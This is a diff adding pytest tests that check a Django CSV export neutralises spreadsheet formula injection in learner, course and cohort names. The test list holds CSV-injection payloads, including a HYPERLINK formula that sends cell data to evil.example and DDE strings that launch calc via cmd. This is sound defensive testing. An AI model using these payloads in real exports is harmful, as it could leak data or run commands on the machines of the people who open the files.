@@ -1,12 +1,16 @@
 """Every answer as CSV: streamed, whole, and safe to open in a spreadsheet."""
 
 import datetime
+import re
+import unicodedata
+from decimal import Decimal
 
 import pytest
+from django.apps import apps
 
 from figures_lite.api.v1.export import cell, lines
-from figures_lite.models import CourseLearner
-from tests.api.conftest import ALGEBRA, CHESS
+from figures_lite.models import Course, CourseLearner
+from tests.api.conftest import ALGEBRA, CHESS, person
 
 WINDOW = {"start": "2026-03-02", "end": "2026-03-07"}
 
@@ -110,6 +114,57 @@ def test_a_bad_question_for_csv_is_refused_before_anything_is_sent(ask, numbers)
 def test_only_text_is_quoted_against_formulas(start):
     assert cell(f"{start}1") == f"'{start}1"
     assert [cell(value) for value in (-1, -1.5, None, "a=b", "")] == ["-1", "-1.5", "", "a=b", ""]
+
+
+#: What people have called themselves, their courses and their cohorts.
+NASTY = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
+    " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", '"=1+1"', "'=1+1", "' \"=1+1", "\t=1+1", "\r=1+1", "\n=1+1",
+    "\x00=1+1", "\uff1d1+1", "\uff0b1", "\uff20SUM(1)", "x;=1+1", 'x";"=1+1', "x\t=1+1", "x\r\n=1+1",
+]  # fmt: skip
+
+
+def runs(shown):
+    """Whether some way of reading a cell finds a formula: as it is, or cut at semicolons, tabs and line ends."""
+    parts = [re.sub(r'[\s"\x00\ufeff\u200b]', "", part) for part in re.split(r"[;\t\r\n]", shown)]
+    return any(unicodedata.normalize("NFKC", part).startswith(("=", "+", "-", "@")) for part in parts)
+
+
+@pytest.mark.parametrize("text", NASTY)
+def test_no_way_of_reading_a_cell_finds_a_formula(text):
+    shown = cell(text)
+    assert shown.replace("'", "") == text.replace("'", "")
+    assert not runs(shown)
+
+
+@pytest.mark.parametrize("text", ["a=b", "x-1", "a@example.org", "x+y", "A; B", "1;2", "Ann - Bob", '"quoted"', "a\nb"])
+def test_what_is_no_formula_stays(text):
+    assert cell(text) == text
+
+
+@pytest.mark.parametrize("number", [-1, -1.5, Decimal("-2.25"), 0, 10**12])
+def test_a_number_stays_a_number(number):
+    assert float(cell(number)) == number
+
+
+def test_nasty_names_everywhere(csv_rows, courses, learners):
+    """A course, an organisation, a username, a name, a cohort, a mode: each that people can choose, in each file."""
+    for number, text in enumerate(NASTY):
+        text = text.replace("\x00", " ")  # no database takes it
+        course = Course.objects.create(key=f"course-v1:Nasty+{number}+R", org=text, name=text, known=True)
+        who = person(f"{text[:100]} {number}", first_name=text[:150])
+        apps.get_model("student", "UserProfile").objects.create(user=who, name=text)
+        CourseLearner.objects.create(
+            course=course, learner_id=who.pk, cohort=text, mode=text, letter=text, certificate=text[:32]
+        )
+        for address in (f"courses/{course.key}/learners/", f"learners/{who.pk}/"):
+            header, row = csv_rows(address)
+            assert len(row) == len(header)
+            assert [shown for shown in row if runs(shown)] == []
+    for address in ("courses/", "orgs/"):
+        rows = csv_rows(address)
+        assert len(rows) > len(set(NASTY)) // 2
+        assert [shown for row in rows for shown in row if runs(shown)] == []
 
 
 def test_instants_are_in_the_reporting_zone(settings):
